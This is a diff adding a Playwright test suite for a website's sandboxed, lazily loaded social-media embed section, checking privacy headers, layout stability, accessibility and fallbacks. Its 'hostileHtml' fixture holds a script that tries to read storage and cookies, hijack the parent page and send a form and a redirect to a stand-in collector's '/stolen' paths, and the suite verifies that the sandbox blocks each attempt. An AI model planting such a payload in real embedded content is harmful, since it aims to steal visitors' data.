@@ -1,0 +1,291 @@
+import type { Locator, Page } from '@playwright/test'
+import { type Network, startNetwork, withHtml } from './fixtures/network.ts'
+import { recordedShifts, recordShifts } from './fixtures/shifts.ts'
+import { startSite } from './fixtures/site.ts'
+import { test as base, expect } from './fixtures/test.ts'
+
+/** Journeys on an installation that knows the embed endpoint of a network next door. */
+const test = base.extend<object, { network: Network }>({
+  network: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern
+    async ({}, use) => {
+      const network = await startNetwork()
+      await use(network)
+      await network.stop()
+    },
+    { scope: 'worker' },
+  ],
+  site: [
+    async ({ network }, use) => {
+      const site = await startSite({ OEMBED_URL: network.endpoint })
+      await use(site)
+      await site.stop()
+    },
+    { scope: 'worker', timeout: 60_000 },
+  ],
+  allowedOrigins: async ({ network }, use) => use([network.origin]),
+})
+
+const POSTS = ['weihnachtsdorf', 'verkaufsoffen', 'gutschein']
+const section = (page: Page) => page.getByRole('region', { name: 'Unterwegs mit der Kamera' })
+const posts = (page: Page) => section(page).getByRole('article')
+const frames = (page: Page) => section(page).locator('iframe')
+const links = (page: Page) => section(page).getByRole('link', { name: /Beitrag ansehen/ })
+
+test('nothing is asked of the network before its posts are scrolled near, and then once', async ({
+  page,
+  network,
+}) => {
+  network.answer(withHtml('<p>Ein Beitrag</p>'))
+  await page.goto('/')
+  await page.getByRole('region', { name: 'Eine Karte, die ganze Stadt' }).scrollIntoViewIfNeeded()
+  await page.waitForLoadState('networkidle')
+  await expect(links(page)).toHaveCount(3)
+  expect(network.asked).toEqual([])
+
+  await section(page).scrollIntoViewIfNeeded()
+  await expect(frames(page)).toHaveCount(3)
+  await page.getByRole('banner').scrollIntoViewIfNeeded()
+  await section(page).scrollIntoViewIfNeeded()
+  await askAfterTheNextFrame(page, `${network.origin}/last`)
+  const wanted = POSTS.map(
+    (post) =>
+      `/oembed?key=public&url=${encodeURIComponent(`https://photos.example/p/${post}`)}&maxwidth=320&hidecaption=true`,
+  )
+  expect([...network.asked].sort()).toEqual(['/last', ...wanted].sort())
+})
+
+test('it asks without cookies and without saying from which page', async ({ page, network }) => {
+  network.answer(withHtml('<p>Ein Beitrag</p>'))
+  await page.context().addCookies([{ name: 'known', value: 'visitor', url: network.origin }])
+  await page.goto('/?suche=geheim')
+  const asking = page.waitForRequest((request) => request.url().startsWith(network.endpoint))
+  await section(page).scrollIntoViewIfNeeded()
+  const headers = await (await asking).allHeaders()
+  expect(headers).not.toHaveProperty('cookie')
+  expect(headers).not.toHaveProperty('referer')
+})
+
+test('from the place kept free to the post, nothing moves', async ({
+  page,
+  network,
+  accessibilityFindings,
+}) => {
+  await recordShifts(page)
+  network.answer(null)
+  await page.goto('/')
+  await section(page).scrollIntoViewIfNeeded()
+  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
+  await expect(links(page)).toHaveCount(3)
+  const kept = await boxes(page)
+
+  network.answer(withHtml('<p>Ein Beitrag</p>'))
+  await expect(section(page).locator('article[aria-busy=false] iframe')).toHaveCount(3)
+  await expect(inside(frames(page).first()).getByText('Ein Beitrag')).toBeVisible()
+  expect(await boxes(page)).toEqual(kept)
+  expect(await recordedShifts(page)).toEqual([])
+  expect(await accessibilityFindings()).toEqual([])
+})
+
+test('axe finds nothing while the posts are awaited', async ({ page, network, accessibilityFindings }) => {
+  network.answer(null)
+  await page.goto('/')
+  await section(page).scrollIntoViewIfNeeded()
+  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
+  expect(await accessibilityFindings('[aria-labelledby=social]')).toEqual([])
+  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
+})
+
+test('a post has a name, a link to where it is, and links that open beside the page', async ({
+  page,
+  network,
+}) => {
+  network.answer(withHtml(`<a href="${network.origin}/p/a">Zum Netzwerk</a>`))
+  await page.goto('/')
+  await section(page).scrollIntoViewIfNeeded()
+  await expect(frames(page).first()).toHaveAttribute(
+    'title',
+    'Eingebetteter Beitrag: Das Weihnachtsdorf wird aufgebaut',
+  )
+  await expect(links(page).first()).toHaveAttribute('href', 'https://photos.example/p/weihnachtsdorf')
+  const opened = page.waitForEvent('popup')
+  await inside(frames(page).first()).getByRole('link', { name: 'Zum Netzwerk' }).click()
+  await expect(await opened).toHaveURL(`${network.origin}/p/a`)
+  expect(await (await opened).evaluate(() => [opener, document.referrer])).toEqual([null, ''])
+  await expect(page).toHaveURL('/')
+})
+
+const LONG_POST = withHtml('<div id="photo"></div><script>photo.style.height = "700px"</script>')
+
+test('the script of the network runs, and a long post gets room', async ({ page, network }) => {
+  network.answer(LONG_POST)
+  await page.setViewportSize({ width: 320, height: 640 })
+  await page.goto('/')
+  await posts(page)
+    .first()
+    .evaluate((post) => post.scrollIntoView({ block: 'start' }))
+  await expect(frames(page).first()).toHaveCSS('height', '700px')
+  const overflow = await page.evaluate(
+    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  )
+  expect(overflow).toBe(0)
+})
+
+test('a long post scrolls inside its frame where room for it would push away what is in view', async ({
+  page,
+  network,
+}) => {
+  await recordShifts(page)
+  network.answer(null)
+  await page.setViewportSize({ width: 1280, height: 1600 })
+  await page.goto('/')
+  await links(page).last().scrollIntoViewIfNeeded()
+  await expect(section(page).locator('article[aria-busy=true]')).toHaveCount(3)
+  network.answer(LONG_POST)
+  await expect(inside(frames(page).first()).locator('#photo')).toHaveCSS('height', '700px')
+  await askAfterTheNextFrame(page, `${network.origin}/last`)
+  await expect(frames(page).first()).toHaveCSS('height', '560px')
+  expect(await recordedShifts(page)).toEqual([])
+})
+
+test.describe('html that means harm', () => {
+  test.use({
+    expectedComplaints: [
+      'Blocked',
+      'blocked',
+      'sandbox',
+      'Content Security Policy',
+      'Refused',
+      'Unsafe attempt',
+    ],
+  })
+
+  test('reaches neither the page nor its storage nor its address', async ({ page, network }) => {
+    network.answer(withHtml(hostileHtml(network.origin)))
+    await page.goto('/')
+    await page.evaluate(() => localStorage.setItem('userIdentifier', 'secret'))
+    await section(page).scrollIntoViewIfNeeded()
+    const outcomes = inside(frames(page).first()).getByRole('listitem')
+    await expect(outcomes).toHaveText([
+      'page: SecurityError',
+      'storage: SecurityError',
+      'cookies: SecurityError',
+      'address: SecurityError',
+      'origin: null',
+      'tried everything',
+    ])
+    await askAfterTheNextFrame(page, `${network.origin}/last`)
+    await expect(page).toHaveURL('/')
+    await expect(page).toHaveTitle(/Gewerbeverein/)
+    expect(network.asked.filter((path) => path.startsWith('/stolen'))).toEqual([])
+    expect(
+      await frames(page)
+        .first()
+        .evaluate((frame) => frame.clientHeight),
+    ).toBeLessThanOrEqual(900)
+  })
+})
+
+test('the document of the frame is sandboxed and empty wherever it is opened', async ({ page, network }) => {
+  const answer = await page.goto('/beitrag-im-rahmen')
+  const policy = answer?.headers()['content-security-policy']
+  expect(policy).toMatch(/^sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox;/)
+  expect(policy).toContain("frame-ancestors 'self'")
+  expect(policy).toContain(network.origin)
+  await page.evaluate(async () => {
+    const received = new Promise((done) => window.addEventListener('message', done))
+    window.postMessage('<p>Von Fremden</p>', '*')
+    await received
+  })
+  expect(await page.evaluate(() => self.origin)).toBe('null')
+  await expect(page.locator('#post')).toBeEmpty()
+})
+
+const FAILURES = [
+  ['does not know the post', { status: 404, body: '{}' }],
+  ['is broken', { status: 500, body: 'Oops' }],
+  ['answers half a JSON', { body: '{"html":"<p>' }],
+  ['answers without html', { body: '{"title":"Ein Beitrag"}' }],
+  ['never answers', null],
+] as const
+
+test.describe('when the network', () => {
+  test.use({ expectedComplaints: ['A post could not be embedded', 'Failed to load resource'] })
+
+  for (const [what, reply] of FAILURES) {
+    test(`${what}, each post is a link`, async ({ page, network, accessibilityFindings }) => {
+      await recordShifts(page)
+      network.answer(reply)
+      await page.goto('/')
+      await section(page).scrollIntoViewIfNeeded()
+      await expect.poll(() => network.asked).toHaveLength(3)
+      await expectLinks(page)
+      expect(await recordedShifts(page)).toEqual([])
+      expect(await accessibilityFindings()).toEqual([])
+    })
+  }
+
+  test('is out of reach, each post is a link', async ({ page, network }) => {
+    const failed: string[] = []
+    page.on('requestfailed', (request) => failed.push(request.url()))
+    await network.whileGone(async () => {
+      await page.goto('/')
+      await section(page).scrollIntoViewIfNeeded()
+      await expect.poll(() => failed).toHaveLength(3)
+      await expectLinks(page)
+    })
+  })
+})
+
+test.describe('without JavaScript', () => {
+  test.use({ javaScriptEnabled: false })
+
+  test('each post is a link, and nothing is asked of the network', async ({ page, network }) => {
+    network.answer(withHtml('<p>Ein Beitrag</p>'))
+    await page.goto('/')
+    await section(page).scrollIntoViewIfNeeded()
+    await expect(links(page)).toHaveCount(3)
+    for (const link of await links(page).all()) await expect(link).toHaveAttribute('href', /^https:/)
+    await expect(frames(page)).toHaveCount(0)
+    const { width, height } = (await section(page).locator('img').first().boundingBox()) ?? {}
+    expect(height).toBe(width)
+    expect(network.asked).toEqual([])
+  })
+})
+
+/** What the page asks because of where it has been scrolled to, it asks before this. */
+async function askAfterTheNextFrame(page: Page, address: string): Promise<void> {
+  await page.evaluate(async (last) => {
+    await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))
+    await fetch(last)
+  }, address)
+}
+
+const inside = (frame: Locator) => frame.contentFrame()
+
+/** Waits until all three have given up, the slowest after the longest wait there is. */
+async function expectLinks(page: Page): Promise<void> {
+  await expect(section(page).locator('img')).toHaveCount(3, { timeout: 20_000 })
+  await expect(section(page).locator('[aria-busy=true], iframe')).toHaveCount(0, { timeout: 20_000 })
+  await expect(links(page)).toHaveCount(3)
+}
+
+const boxes = (page: Page) =>
+  posts(page).evaluateAll((all) => all.map((post) => post.getBoundingClientRect().toJSON()))
+
+/** Tries what must not work and lists what came of it. */
+const hostileHtml = (collector: string) => `
+<ul id="outcomes"></ul>
+<form id="form" method="post" action="${collector}/stolen-form"><input name="a" value="b"></form>
+<script>
+  const say = (what) => outcomes.appendChild(document.createElement('li')).textContent = what
+  const attempt = (name, act) => { try { act(); say(name + ': worked') } catch (error) { say(name + ': ' + error.name) } }
+  attempt('page', () => { parent.document.title = 'Gekapert' })
+  attempt('storage', () => localStorage.getItem('userIdentifier'))
+  attempt('cookies', () => document.cookie)
+  attempt('address', () => { top.location.href = '${collector}/stolen-address' })
+  form.submit()
+  for (const height of [1e9, -1, NaN, '5000', { height: 5000 }]) parent.postMessage(height, '*')
+  say('origin: ' + self.origin)
+  say('tried everything')
+</script>`
